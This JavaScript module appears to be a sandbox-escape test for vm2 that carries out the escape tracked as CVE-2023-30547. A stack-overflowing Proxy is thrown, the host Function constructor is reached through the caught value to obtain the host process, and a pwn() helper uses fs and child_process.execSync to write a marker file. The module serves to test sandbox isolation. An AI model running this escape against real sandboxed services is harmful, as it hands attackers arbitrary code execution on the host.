// Escape attempt: CVE-2023-30547 (GHSA-ch3r-j5x3-6q2m): a Proxy whose getPrototypeOf overflows the stack while vm2 handles the thrown value, hoping to catch a host RangeError.
// Each attempt hands whatever it reached to pwn(); pwn writes the marker file only if it holds the host process.
function pwn(p, marker, notes, label) {
  try {
    if (!p || (typeof p !== "object" && typeof p !== "function")) { notes.push(label + ": nothing"); return false; }
    const get = typeof p.getBuiltinModule === "function" ? (n) => p.getBuiltinModule(n) : p.mainModule ? (n) => p.mainModule.require(n) : null;
    if (!get) { notes.push(label + ": no process"); return false; }
    get("fs").writeFileSync(marker, "escaped via " + label);
    try { get("child_process").execSync("touch " + marker + ".cp"); } catch (e) {}
    notes.push(label + ": ESCAPED");
    return true;
  } catch (e) { notes.push(label + ": " + String(e && e.message)); return false; }
}
function attempt(notes, label, fn) {
  try { fn(); } catch (e) { notes.push(label + " threw: " + String(e && e.message).slice(0, 80)); }
}

module.exports = {
  name: 'escape-proxy-prototype-catch',
  description: 'sandbox escape attempt: proxy-prototype-catch',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    const handler = { getPrototypeOf() { (function stack() { new Error().stack; stack(); })(); } };
    const proxied = new Proxy({}, handler);
    attempt(notes, "catch", () => { try { throw proxied; } catch ({ constructor: c }) { pwn(c.constructor("return process")(), marker, notes, "catch destructure"); } });
    attempt(notes, "catch2", () => { try { throw proxied; } catch (e) { pwn(e.constructor.constructor("return process")(), marker, notes, "catch plain"); } });
    return { summary: notes.join(' | '), data: notes };
  },
};
